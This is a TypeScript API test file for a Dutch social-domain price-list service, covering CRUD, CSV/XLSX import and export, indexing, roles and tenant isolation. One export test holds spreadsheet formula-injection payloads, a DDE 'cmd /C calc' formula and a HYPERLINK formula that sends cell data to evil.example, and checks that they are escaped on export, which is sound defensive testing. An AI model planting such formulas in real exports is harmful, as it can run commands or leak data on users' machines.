import { randomUUID } from 'node:crypto';
import { XLSX_CONTENT_TYPE } from '@kassabon/contract';
import { createTestDatabase, type Database, listAudit } from '@kassabon/db';
import {
  comparePriceItemCodes,
  DEFAULT_REFERENCE_PRICE_LIST_CODE,
  matchesPriceItemSearch,
  type PriceItem,
  REFERENCE_PRICE_LISTS,
} from '@kassabon/engine';
import {
  createApiToken,
  createOrganisation,
  REFERENCE_LIST_READ_ONLY,
  type Role,
} from '@kassabon/services';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type App, buildApp } from './build-app.ts';

const REFERENCE = DEFAULT_REFERENCE_PRICE_LIST_CODE;
const referenceItems = [...(REFERENCE_PRICE_LISTS[REFERENCE]?.items ?? [])].sort(
  comparePriceItemCodes,
);

let database: Database;
let app: App;
let organisationCount = 0;

type Tokens = Record<Role, string> & { organisationId: string };

/** A fresh organisation per test, with a token for each role: tests share no state. */
async function freshOrganisation(): Promise<Tokens> {
  const organisation = await createOrganisation(database, `prices-${++organisationCount}`);
  const result = { organisationId: organisation.id } as Tokens;
  for (const role of ['admin', 'analyst', 'professional', 'viewer'] as const)
    result[role] = (
      await createApiToken(database, { organisation: organisation.name, role, name: role })
    ).token;
  return result;
}

beforeAll(async () => {
  database = await createTestDatabase();
  app = await buildApp({ database });
}, 120_000);
afterAll(async () => {
  await app?.close();
  await database?.close();
});

let org: Tokens;
beforeEach(async () => {
  org = await freshOrganisation();
});

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';

function call(token: string, method: Method, url: string, payload?: unknown) {
  return app.inject({
    method,
    url: `/api/v1${url}`,
    headers: { authorization: `Bearer ${token}` },
    ...(payload === undefined ? {} : { payload: payload as Record<string, unknown> }),
  });
}

function upload(token: string, url: string, body: string | Uint8Array, contentType: string) {
  return app.inject({
    method: 'POST',
    url: `/api/v1${url}`,
    headers: { authorization: `Bearer ${token}`, 'content-type': contentType },
    payload: Buffer.from(body),
  });
}

async function createList(
  token: string,
  body: { name: string; year: number; copyFrom?: string } = {
    name: 'Lokaal',
    year: 2025,
    copyFrom: REFERENCE,
  },
) {
  const response = await call(token, 'POST', '/price-lists', body);
  expect(response.statusCode, response.body).toBe(201);
  return response.json() as { id: string; version: number; itemCount: number; name: string };
}

async function allItems(token: string, id: string): Promise<PriceItem[]> {
  const response = await call(token, 'GET', `/price-lists/${id}/items?limit=500`);
  expect(response.statusCode, response.body).toBe(200);
  return response.json().items;
}

const item = (code: string, fields: Partial<PriceItem> = {}): PriceItem => ({
  code,
  name: `Item ${code}`,
  unit: 'hour',
  unitPrice: 10,
  financier: 'gemeente-wmo',
  ...fields,
});

const caseFile = (priceListItems: PriceItem[]) => ({
  version: 1,
  priceList: { name: 'Uit casusbestand', year: 2024, items: priceListItems },
  cases: [
    { code: 'K2', scenarios: [{ kind: 'with', lines: [{ item: 'a', quantity: 2 }] }] },
    { code: 'K1', scenarios: [{ kind: 'with', lines: [{ item: 'a', quantity: 1 }] }] },
  ],
});

describe('listing and creating price lists', () => {
  it('shows the shipped list, active while the organisation has no active list of its own', async () => {
    const response = await call(org.viewer, 'GET', '/price-lists');
    expect(response.statusCode).toBe(200);
    expect(response.json().items).toEqual([
      {
        id: REFERENCE,
        kind: 'reference',
        name: expect.any(String),
        year: 2025,
        version: null,
        active: true,
        itemCount: 117,
        createdAt: null,
      },
    ]);
  });

  it('copies the reference list into versions of an own list', async () => {
    const first = await createList(org.analyst);
    const second = await createList(org.admin);
    expect([first.version, second.version]).toEqual([1, 2]);
    expect(first.itemCount).toBe(117);
    expect(await allItems(org.analyst, first.id)).toEqual(referenceItems);
    const empty = await createList(org.analyst, { name: 'Leeg', year: 2026 });
    expect(empty.itemCount).toBe(0);
    const listed = (await call(org.professional, 'GET', '/price-lists')).json().items;
    expect(
      listed.map((list: { kind: string; name: string; version: number }) => list.version),
    ).toEqual([1, 2, 1, null]);
    expect(listed[0]).toMatchObject({ kind: 'own', name: 'Leeg', active: false });
    expect(Date.parse(listed[0].createdAt)).not.toBeNaN();
    const copyOfCopy = await createList(org.analyst, {
      name: 'Lokaal',
      year: 2027,
      copyFrom: second.id,
    });
    expect(copyOfCopy).toMatchObject({ version: 3, itemCount: 117 });
  });

  it('shows one list, own or shipped, and 404 for an unknown one', async () => {
    const list = await createList(org.analyst);
    expect((await call(org.viewer, 'GET', `/price-lists/${list.id}`)).json()).toMatchObject({
      id: list.id,
      kind: 'own',
      itemCount: 117,
    });
    expect((await call(org.viewer, 'GET', `/price-lists/${REFERENCE}`)).json().kind).toBe(
      'reference',
    );
    const unknown = await call(org.viewer, 'GET', '/price-lists/nl-sociaal-domein-1999');
    expect(unknown.statusCode).toBe(404);
    expect(unknown.headers['content-type']).toMatch(/^application\/problem\+json/);
  });

  it('refuses a list without a name, a wrong year and unknown fields', async () => {
    const response = await call(org.analyst, 'POST', '/price-lists', {
      name: ' ',
      year: 20255,
      colour: 'red',
    });
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.length).toBeGreaterThanOrEqual(2);
  });

  it('renames a list into the next version of the new name and changes its year', async () => {
    await createList(org.analyst, { name: 'Doel', year: 2025 });
    const list = await createList(org.analyst, { name: 'Bron', year: 2025 });
    const renamed = await call(org.analyst, 'PATCH', `/price-lists/${list.id}`, {
      name: 'Doel',
      year: 2026,
    });
    expect(renamed.statusCode).toBe(200);
    expect(renamed.json()).toMatchObject({ name: 'Doel', version: 2, year: 2026 });
    expect((await call(org.analyst, 'PATCH', `/price-lists/${list.id}`, {})).statusCode).toBe(422);
  });
});

describe('activation', () => {
  it('switches the one active list, and back to the shipped one', async () => {
    const a = await createList(org.analyst, { name: 'A', year: 2025 });
    const b = await createList(org.analyst, { name: 'B', year: 2025 });
    const active = async () =>
      (await call(org.viewer, 'GET', '/price-lists'))
        .json()
        .items.filter((list: { active: boolean }) => list.active)
        .map((list: { id: string }) => list.id);

    const activated = await call(org.analyst, 'POST', `/price-lists/${a.id}/activate`);
    expect(activated.statusCode).toBe(200);
    expect(activated.json().active).toBe(true);
    expect(await active()).toEqual([a.id]);
    await call(org.admin, 'POST', `/price-lists/${b.id}/activate`);
    expect(await active()).toEqual([b.id]);
    expect((await call(org.viewer, 'GET', `/price-lists/${a.id}`)).json().active).toBe(false);
    const back = await call(org.analyst, 'POST', `/price-lists/${REFERENCE}/activate`);
    expect(back.json()).toMatchObject({ id: REFERENCE, active: true });
    expect(await active()).toEqual([REFERENCE]);

    const audit = await listAudit(database.db, { organisationId: org.organisationId, limit: 20 });
    const activations = audit.filter((entry) => entry.action === 'activate');
    expect(activations.map((entry) => entry.entityId)).toEqual([REFERENCE, b.id, a.id]);
    expect(activations[0]?.changes).toEqual({ deactivated: [b.id] });
  });
});

describe('items', () => {
  it('searches an own copy and the shipped list alike, paged, with a category filter', async () => {
    const copy = await createList(org.analyst);
    for (const query of ['q=ggz', 'q=GGZ%20uur', 'q=bijstand&category=inkomen', 'category=WMO']) {
      const own = await call(org.professional, 'GET', `/price-lists/${copy.id}/items?${query}`);
      const shipped = await call(
        org.professional,
        'GET',
        `/price-lists/${REFERENCE}/items?${query}`,
      );
      expect(own.statusCode).toBe(200);
      expect(own.json()).toEqual(shipped.json());
    }
    const ggz = (await call(org.viewer, 'GET', `/price-lists/${REFERENCE}/items?q=ggz`)).json();
    const expected = referenceItems.filter((candidate) =>
      matchesPriceItemSearch(candidate, { q: 'ggz' }),
    );
    expect(ggz.total).toBe(expected.length);
    expect(ggz.total).toBeGreaterThan(1);
    expect(ggz.total).toBeLessThan(117);
    const page = (
      await call(org.viewer, 'GET', `/price-lists/${copy.id}/items?q=ggz&limit=1&offset=1`)
    ).json();
    expect(page).toMatchObject({ total: expected.length, limit: 1, offset: 1 });
    expect(page.items).toEqual([expected[1]]);
    expect(
      (await call(org.viewer, 'GET', `/price-lists/${copy.id}/items?limit=0`)).statusCode,
    ).toBe(422);
  });

  it('lists the categories of an own copy and the shipped list alike, for a filter', async () => {
    const copy = await createList(org.analyst);
    const own = await call(org.viewer, 'GET', `/price-lists/${copy.id}/categories`);
    const shipped = await call(org.viewer, 'GET', `/price-lists/${REFERENCE}/categories`);
    expect(own.statusCode).toBe(200);
    expect(own.json()).toEqual(shipped.json());
    expect(shipped.json().categories).toEqual(expect.arrayContaining(['wmo', 'zorg-ggz']));
    const empty = await createList(org.analyst, { name: 'Leeg', year: 2025 });
    expect((await call(org.viewer, 'GET', `/price-lists/${empty.id}/categories`)).json()).toEqual({
      categories: [],
    });
  });

  it('adds, shows, replaces and deletes an item, audit-logged', async () => {
    const list = await createList(org.analyst, { name: 'Lokaal', year: 2025 });
    const added = await call(org.analyst, 'POST', `/price-lists/${list.id}/items`, item('x'));
    expect(added.statusCode).toBe(201);
    expect(added.json()).toEqual(item('x'));
    const duplicate = await call(org.analyst, 'POST', `/price-lists/${list.id}/items`, item('x'));
    expect(duplicate.statusCode).toBe(409);
    expect(duplicate.json().title).toContain('"x"');
    const replaced = await call(
      org.admin,
      'PUT',
      `/price-lists/${list.id}/items/x`,
      item('x', { unitPrice: 12.5, confidence: 'low' }),
    );
    expect(replaced.statusCode).toBe(200);
    expect((await call(org.viewer, 'GET', `/price-lists/${list.id}/items/x`)).json()).toEqual(
      item('x', { unitPrice: 12.5, confidence: 'low' }),
    );
    const renamed = await call(org.admin, 'PUT', `/price-lists/${list.id}/items/x`, item('y'));
    expect(renamed.statusCode).toBe(422);
    expect(renamed.json().errors[0].path).toBe('code');
    expect(
      (await call(org.admin, 'PUT', `/price-lists/${list.id}/items/nope`, item('nope'))).statusCode,
    ).toBe(404);
    expect((await call(org.analyst, 'DELETE', `/price-lists/${list.id}/items/x`)).statusCode).toBe(
      204,
    );
    expect((await call(org.analyst, 'DELETE', `/price-lists/${list.id}/items/x`)).statusCode).toBe(
      404,
    );

    const audit = await listAudit(database.db, { organisationId: org.organisationId, limit: 10 });
    const itemEntries = audit.filter((entry) => entry.entity === 'price-item');
    expect(itemEntries.map((entry) => entry.action)).toEqual(['delete', 'update', 'create']);
    expect(itemEntries[1]).toMatchObject({
      entityId: `${list.id}/x`,
      actor: expect.stringMatching(/^token:/),
      changes: { before: { unitPrice: 10 }, after: { unitPrice: 12.5 } },
    });
  });

  it("names each wrong field of an item with the engine's messages", async () => {
    const list = await createList(org.analyst, { name: 'Lokaal', year: 2025 });
    const response = await call(org.analyst, 'POST', `/price-lists/${list.id}/items`, {
      code: 'z',
      name: 'Z',
      unit: 'uur',
      unitPrice: 'veel',
      financier: 'zvw',
    });
    expect(response.statusCode).toBe(422);
    expect(response.json().errors).toEqual([
      {
        path: 'body.unit',
        message:
          'must be one of year, month, week, day, hour, contact, trajectory, once (got text "uur"); use "hour" for Dutch "uur"',
      },
      { path: 'body.unitPrice', message: 'must be a number (got text "veel")' },
    ]);
  });

  it('refuses to delete an item that receipts priced from the list use, naming the cases', async () => {
    const imported = await call(org.analyst, 'POST', '/import', caseFile([item('a'), item('b')]));
    expect(imported.statusCode).toBe(201);
    const list = (await call(org.analyst, 'GET', '/price-lists'))
      .json()
      .items.find((candidate: { name: string }) => candidate.name === 'Uit casusbestand');
    const refused = await call(org.analyst, 'DELETE', `/price-lists/${list.id}/items/a`);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().title).toContain('cases K1, K2');
    expect(refused.json().cases).toEqual(['K1', 'K2']);
    expect((await call(org.analyst, 'DELETE', `/price-lists/${list.id}/items/b`)).statusCode).toBe(
      204,
    );
    const listRefused = await call(org.analyst, 'DELETE', `/price-lists/${list.id}`);
    expect(listRefused.statusCode).toBe(409);
    expect(listRefused.json().title).toContain('cases K1, K2');
    expect(listRefused.json().errors).toHaveLength(2);
    expect(listRefused.json().cases).toEqual(['K1', 'K2']);
  });

  it('deletes a list no case uses', async () => {
    const list = await createList(org.analyst);
    expect((await call(org.analyst, 'DELETE', `/price-lists/${list.id}`)).statusCode).toBe(204);
    expect((await call(org.analyst, 'GET', `/price-lists/${list.id}`)).statusCode).toBe(404);
  });

  it('refuses every change to the shipped list with one clear message', async () => {
    const base = `/price-lists/${REFERENCE}`;
    const code = referenceItems[0]?.code ?? '';
    const attempts = [
      call(org.admin, 'PATCH', base, { year: 2030 }),
      call(org.admin, 'DELETE', base),
      call(org.admin, 'POST', `${base}/items`, item('new')),
      call(org.admin, 'PUT', `${base}/items/${code}`, item(code)),
      call(org.admin, 'DELETE', `${base}/items/${code}`),
    ];
    for (const response of await Promise.all(attempts)) {
      expect(response.statusCode).toBe(409);
      expect(response.json().title).toBe(REFERENCE_LIST_READ_ONLY);
    }
    expect((await call(org.admin, 'GET', `${base}/items?limit=500`)).json().items).toEqual(
      referenceItems,
    );
  });
});

const DUTCH_CSV = [
  '\uFEFFcode;naam;eenheid;eenheidsprijs;financier;categorie;prijsjaar;zekerheid;overdracht',
  'ggz_uur;GGZ-behandeling, per uur;hour;1.234,56;zvw;ggz;2024;high;nee',
  'bijstand_mnd;Bijstand;month;1401,5;gemeente-participatiewet;inkomen;2025;;ja',
].join('\r\n');

async function xlsx(rows: unknown[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Blad1');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

describe('import', () => {
  it('imports Dutch Excel CSV (BOM, ";", decimal commas) as a new version', async () => {
    const response = await upload(
      org.analyst,
      '/price-lists/import?name=Gemeente%20X&year=2025',
      DUTCH_CSV,
      'text/csv; charset=utf-8',
    );
    expect(response.statusCode, response.body).toBe(201);
    expect(response.json()).toMatchObject({ name: 'Gemeente X', version: 1, itemCount: 2 });
    expect(await allItems(org.analyst, response.json().id)).toEqual([
      {
        code: 'bijstand_mnd',
        name: 'Bijstand',
        unit: 'month',
        unitPrice: 1401.5,
        financier: 'gemeente-participatiewet',
        category: 'inkomen',
        priceYear: 2025,
        transfer: true,
      },
      {
        code: 'ggz_uur',
        name: 'GGZ-behandeling, per uur',
        unit: 'hour',
        unitPrice: 1234.56,
        financier: 'zvw',
        category: 'ggz',
        priceYear: 2024,
        confidence: 'high',
        transfer: false,
      },
    ]);
    const again = await upload(
      org.analyst,
      '/price-lists/import?name=Gemeente%20X&year=2026',
      DUTCH_CSV,
      'text/csv',
    );
    expect(again.json().version).toBe(2);
  });

  it('imports an XLSX workbook', async () => {
    const content = await xlsx([
      ['Code', 'Naam', 'Eenheid', 'Prijs', 'Financier'],
      ['a', 'A', 'day', 99.5, 'wlz'],
    ]);
    const response = await upload(
      org.admin,
      '/price-lists/import?name=Uit%20Excel&year=2025',
      content,
      XLSX_CONTENT_TYPE,
    );
    expect(response.statusCode, response.body).toBe(201);
    expect(await allItems(org.admin, response.json().id)).toEqual([
      { code: 'a', name: 'A', unit: 'day', unitPrice: 99.5, financier: 'wlz' },
    ]);
  });

  it('answers 422 naming row and column of each problem, and stores nothing', async () => {
    const csv = `${DUTCH_CSV}\r\nx;X;uur;veel;zvw;;;;\r\nggz_uur;Dubbel;hour;1;zvw;;;;`;
    const response = await upload(
      org.analyst,
      '/price-lists/import?name=Fout&year=2025',
      csv,
      'text/csv',
    );
    expect(response.statusCode).toBe(422);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(response.json().title).toBe('the price list file has 3 problems; nothing was imported');
    expect(
      response
        .json()
        .errors.map((e: { path: string; message: string }) => `${e.path}: ${e.message}`),
    ).toEqual([
      'row 4, eenheid (unit): must be one of year, month, week, day, hour, contact, trajectory, once (got text "uur"); use "hour" for Dutch "uur"',
      'row 4, eenheidsprijs (unitPrice): must be a number (got text "veel")',
      'row 5, code: "ggz_uur" is on row 2 too; each code once',
    ]);
    const lists = (await call(org.analyst, 'GET', '/price-lists')).json().items;
    expect(lists.map((list: { kind: string }) => list.kind)).toEqual(['reference']);
    const audit = await listAudit(database.db, { organisationId: org.organisationId, limit: 5 });
    expect(audit).toEqual([]);
  });

  it('refuses other media types, a body over the limit, and a missing name', async () => {
    const json = await call(org.analyst, 'POST', '/price-lists/import?name=X&year=2025', {
      code: 'x',
    });
    expect(json.statusCode).toBe(415);
    const huge = await upload(
      org.analyst,
      '/price-lists/import?name=X&year=2025',
      Buffer.alloc(21 * 1024 * 1024, 'a'),
      'text/csv',
    );
    expect(huge.statusCode).toBe(413);
    const nameless = await upload(
      org.analyst,
      '/price-lists/import?year=2025',
      DUTCH_CSV,
      'text/csv',
    );
    expect(nameless.statusCode).toBe(422);
  });
});

describe('export', () => {
  it('exports CSV and XLSX that import back to the same items', async () => {
    const list = await createList(org.analyst);
    const original = await allItems(org.analyst, list.id);
    for (const [format, contentType, separator] of [
      ['csv', 'text/csv', 'comma'],
      ['csv', 'text/csv', 'semicolon'],
      ['xlsx', XLSX_CONTENT_TYPE, 'comma'],
    ] as const) {
      const exported = await call(
        org.viewer,
        'GET',
        `/price-lists/${list.id}/export?format=${format}&separator=${separator}`,
      );
      expect(exported.statusCode).toBe(200);
      expect(exported.headers['content-type']).toContain(contentType);
      expect(exported.headers['content-disposition']).toBe(
        `attachment; filename="lokaal-v1.${format}"`,
      );
      const reimported = await upload(
        org.analyst,
        `/price-lists/import?name=Terug&year=2025`,
        exported.rawPayload,
        contentType,
      );
      expect(reimported.statusCode, reimported.body).toBe(201);
      expect(await allItems(org.analyst, reimported.json().id)).toEqual(original);
    }
  });

  it('escapes cells that a spreadsheet would run as formulas', async () => {
    const list = await createList(org.analyst, { name: 'Gevaar', year: 2025 });
    const evil = item('=cmd|" /C calc"!A0', {
      name: '=HYPERLINK("http://evil.example?"&A1,"klik")',
      category: '+1',
      source: '@SUM(1)',
      financier: '-2',
    });
    expect(
      (await call(org.analyst, 'POST', `/price-lists/${list.id}/items`, evil)).statusCode,
    ).toBe(201);
    const csv = (await call(org.viewer, 'GET', `/price-lists/${list.id}/export`)).body;
    const [, row] = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(row).toBe(
      `"'=cmd|"" /C calc""!A0","'=HYPERLINK(""http://evil.example?""&A1,""klik"")",,hour,10,'-2,'+1,'@SUM(1),,,`,
    );
    const exported = await call(org.viewer, 'GET', `/price-lists/${list.id}/export?format=xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(exported.rawPayload as unknown as ExcelJS.Buffer);
    const cells: unknown[] = [];
    workbook.worksheets[0]?.getRow(2).eachCell((cell) => {
      cells.push(cell.value);
    });
    expect(cells.filter((value) => typeof value === 'string' && /^[=+\-@]/.test(value))).toEqual(
      [],
    );
    expect(cells[0]).toBe(`'=cmd|" /C calc"!A0`);
  });

  it('exports the shipped list too', async () => {
    const exported = await call(org.professional, 'GET', `/price-lists/${REFERENCE}/export`);
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toContain(`${REFERENCE}.csv`);
    expect(exported.body.split('\r\n').filter((line) => line !== '')).toHaveLength(118);
  });
});

describe('indexing', () => {
  it('indexes each price from its own year to the new one as a new version', async () => {
    const list = await createList(org.analyst);
    const response = await call(org.analyst, 'POST', `/price-lists/${list.id}/index`, {
      toYear: 2026,
      percentPerYear: 2,
    });
    expect(response.statusCode, response.body).toBe(201);
    expect(response.json()).toMatchObject({
      name: 'Lokaal',
      version: 2,
      year: 2026,
      itemCount: 117,
    });
    const indexed = await allItems(org.analyst, response.json().id);
    indexed.forEach((after, index) => {
      const before = referenceItems[index];
      if (!before) throw new Error('missing item');
      const years = 2026 - (before.priceYear ?? 2025);
      expect(after.code).toBe(before.code);
      expect(after.priceYear).toBe(2026);
      expect(after.unitPrice).toBeCloseTo(before.unitPrice * 1.02 ** years, 8);
    });
    expect(
      indexed.some((after, index) => after.unitPrice !== referenceItems[index]?.unitPrice),
    ).toBe(true);
  });

  it('takes an explicit factor, indexes the shipped list into an own one, and refuses both at once', async () => {
    const response = await call(org.analyst, 'POST', `/price-lists/${REFERENCE}/index`, {
      toYear: 2027,
      factor: 1.5,
    });
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({ kind: 'own', version: 1, year: 2027 });
    const indexed = await allItems(org.analyst, response.json().id);
    expect(indexed[0]?.unitPrice).toBeCloseTo((referenceItems[0]?.unitPrice ?? 0) * 1.5, 10);
    const both = await call(org.analyst, 'POST', `/price-lists/${REFERENCE}/index`, {
      toYear: 2027,
      factor: 1.5,
      percentPerYear: 2,
    });
    expect(both.statusCode).toBe(422);
  });
});

describe('roles', () => {
  it('lets every role read, and only admins and analysts change', async () => {
    const list = await createList(org.analyst);
    const code = referenceItems[0]?.code ?? '';
    for (const role of ['admin', 'analyst', 'professional', 'viewer'] as const) {
      const token = org[role];
      for (const url of [
        '/price-lists',
        `/price-lists/${list.id}`,
        `/price-lists/${list.id}/items?q=ggz`,
        `/price-lists/${list.id}/items/${code}`,
        `/price-lists/${list.id}/export`,
      ])
        expect((await call(token, 'GET', url)).statusCode, `${role} GET ${url}`).toBe(200);
    }
    for (const role of ['professional', 'viewer'] as const) {
      const token = org[role];
      const writes = [
        call(token, 'POST', '/price-lists', { name: 'X', year: 2025 }),
        call(token, 'PATCH', `/price-lists/${list.id}`, { year: 2030 }),
        call(token, 'POST', `/price-lists/${list.id}/activate`),
        call(token, 'POST', `/price-lists/${list.id}/index`, { toYear: 2026, factor: 2 }),
        call(token, 'POST', `/price-lists/${list.id}/items`, item('new')),
        call(token, 'PUT', `/price-lists/${list.id}/items/${code}`, item(code)),
        call(token, 'DELETE', `/price-lists/${list.id}/items/${code}`),
        call(token, 'DELETE', `/price-lists/${list.id}`),
        upload(token, '/price-lists/import?name=X&year=2025', DUTCH_CSV, 'text/csv'),
      ];
      for (const response of await Promise.all(writes))
        expect(response.statusCode, `${role}: ${response.body}`).toBe(403);
    }
    expect((await call(org.viewer, 'GET', `/price-lists/${list.id}`)).json().itemCount).toBe(117);
    const anonymous = await app.inject({ method: 'GET', url: '/api/v1/price-lists' });
    expect(anonymous.statusCode).toBe(401);
  });
});

describe('organisations are isolated', () => {
  it("answers 404 for another organisation's list on every route, and changes nothing", async () => {
    const list = await createList(org.analyst);
    const code = referenceItems[0]?.code ?? '';
    const other = await freshOrganisation();
    for (const id of [list.id, randomUUID(), 'not-a-uuid']) {
      const base = `/price-lists/${encodeURIComponent(id)}`;
      const responses = await Promise.all([
        call(other.admin, 'GET', base),
        call(other.admin, 'PATCH', base, { year: 2030 }),
        call(other.admin, 'DELETE', base),
        call(other.admin, 'POST', `${base}/activate`),
        call(other.admin, 'POST', `${base}/index`, { toYear: 2026, factor: 2 }),
        call(other.admin, 'GET', `${base}/export`),
        call(other.admin, 'GET', `${base}/export?format=xlsx`),
        call(other.admin, 'GET', `${base}/items`),
        call(other.admin, 'GET', `${base}/items?q=ggz`),
        call(other.admin, 'GET', `${base}/categories`),
        call(other.admin, 'POST', `${base}/items`, item('new')),
        call(other.admin, 'GET', `${base}/items/${code}`),
        call(other.admin, 'PUT', `${base}/items/${code}`, item(code, { unitPrice: 0 })),
        call(other.admin, 'DELETE', `${base}/items/${code}`),
        call(other.admin, 'POST', '/price-lists', { name: 'Kopie', year: 2025, copyFrom: id }),
      ]);
      responses.forEach((response, index) => {
        expect(response.statusCode, `${id} #${index}: ${response.body}`).toBe(404);
        expect(response.json().title).toBe(`price list "${id}" not found`);
      });
    }
    const lists = (await call(other.admin, 'GET', '/price-lists')).json().items;
    expect(lists.map((candidate: { kind: string }) => candidate.kind)).toEqual(['reference']);
    expect(await allItems(org.viewer, list.id)).toEqual(referenceItems);
    expect((await call(org.viewer, 'GET', `/price-lists/${list.id}`)).json()).toMatchObject({
      year: 2025,
      active: false,
      version: 1,
    });
  });
});

describe('documentation', () => {
  it('shows every price-list route in the OpenAPI document', async () => {
    const paths = (await app.inject({ method: 'GET', url: '/api/openapi.json' })).json().paths;
    expect(Object.keys(paths)).toEqual(
      expect.arrayContaining([
        '/api/v1/price-lists',
        '/api/v1/price-lists/import',
        '/api/v1/price-lists/{id}',
        '/api/v1/price-lists/{id}/activate',
        '/api/v1/price-lists/{id}/index',
        '/api/v1/price-lists/{id}/export',
        '/api/v1/price-lists/{id}/items',
        '/api/v1/price-lists/{id}/items/{code}',
        '/api/v1/price-lists/{id}/categories',
      ]),
    );
    expect(paths['/api/v1/price-lists'].get.tags).toEqual(['price lists']);
    expect(Object.keys(paths['/api/v1/price-lists/import'].post.requestBody.content)).toEqual([
      'text/csv',
      XLSX_CONTENT_TYPE,
    ]);
  });
});
